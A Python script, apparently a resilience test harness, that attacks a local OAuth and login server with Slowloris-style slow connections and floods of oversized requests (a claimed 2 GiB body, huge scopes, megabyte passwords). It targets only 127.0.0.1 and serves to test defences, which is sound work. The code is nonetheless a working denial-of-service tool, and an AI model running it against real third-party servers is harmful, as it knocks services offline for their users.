"""Clients that want to do harm: connections that dawdle, and requests that are far too large.

    hostile.py PORT CONNECTIONS SECONDS
"""

import asyncio
import resource
import sys


async def dawdle(port: int) -> None:
    """Slowloris: a header, one byte at a time."""
    while True:
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            for letter in b"GET /login HTTP/1.1\r\nhost: localhost\r\nx: " + b"a" * 1000:
                writer.write(bytes([letter]))
                await writer.drain()
                await asyncio.sleep(1)
        except OSError:
            await asyncio.sleep(0.5)


async def exceed(port: int) -> None:
    """Bodies of 2 GiB, scopes of 100,000 words, passwords of a mebibyte, and a scope that is just let in, in turn."""
    form = "content-type: application/x-www-form-urlencoded\r\n"
    words = b"client_id=web-rs256&scope=" + b"+".join(b"w%d" % at for at in range(8_000))
    huge = [("/oauth2/token", "content-length: 2147483648", b"a=" + b"b" * 65536, 16),
            ("/oauth2/device", "transfer-encoding: chunked", b"10000\r\n" + b"c" * 65536 + b"\r\n", 16),
            ("/oauth2/token", "content-length: 200010", b"scope=" + b"a+" * 100002, 16),
            ("/login", "content-length: 1048585", b"password=" + b"p" * 65536, 16),
            ("/oauth2/device", f"content-length: {len(words)}", words, 1)]
    while True:
        for path, length, piece, times in huge:
            head = f"POST {path} HTTP/1.1\r\nhost: localhost:{port}\r\n{form}{length}\r\n\r\n"
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.write(head.encode())
                for _ in range(times):
                    writer.write(piece)
                    await writer.drain()
                writer.close()
            except OSError:
                pass
            await asyncio.sleep(0.05)


async def attack(port: int, slow: int, seconds: float) -> None:
    everybody = [asyncio.create_task(dawdle(port)) for _ in range(slow)]
    everybody += [asyncio.create_task(exceed(port)) for _ in range(4)]
    await asyncio.sleep(seconds)
    for one in everybody:
        one.cancel()


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))
    asyncio.run(attack(int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])))
